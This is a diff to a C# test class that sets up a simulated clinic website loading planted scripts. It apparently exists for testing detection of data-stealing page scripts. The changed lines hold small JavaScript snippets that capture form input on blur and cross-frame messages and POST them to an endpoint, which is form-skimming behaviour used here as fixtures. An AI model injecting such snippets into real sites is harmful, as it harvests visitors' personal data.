@@ -24,8 +24,8 @@ public sealed class PlantedSiteTests : IAsyncLifetime
         await site.InitializeAsync();
         foreach (var plant in Plants.All)
             site.Pages[plant.Host + "/s.js"] = ("text/javascript", plant.Text);
-        site.Pages["frame-message.plants.test/frame"] = ("text/html", "<script>onmessage = e => fetch('/p', { method: 'POST', body: 'm=' + e.data })</script>");
-        site.Pages["in-frame.plants.test/form"] = ("text/html", "<input name=inner><script>document.querySelector('input').addEventListener('blur', e => fetch('/p', { method: 'POST', body: JSON.stringify({ i: e.target.value }) }))</script>");
+        site.Pages["plant-frame-message.test/frame"] = ("text/html", "<script>onmessage = e => fetch('/p', { method: 'POST', body: 'm=' + e.data })</script>");
+        site.Pages["plant-in-frame.test/form"] = ("text/html", "<input name=inner><script>document.querySelector('input').addEventListener('blur', e => fetch('/p', { method: 'POST', body: JSON.stringify({ i: e.target.value }) }))</script>");
         site.Pages["clinic.test/"] = ("text/html", Form + string.Concat(Plants.All.Select(p => $"<script src=\"https://{p.Host}/s.js\"></script>")));
     }
 
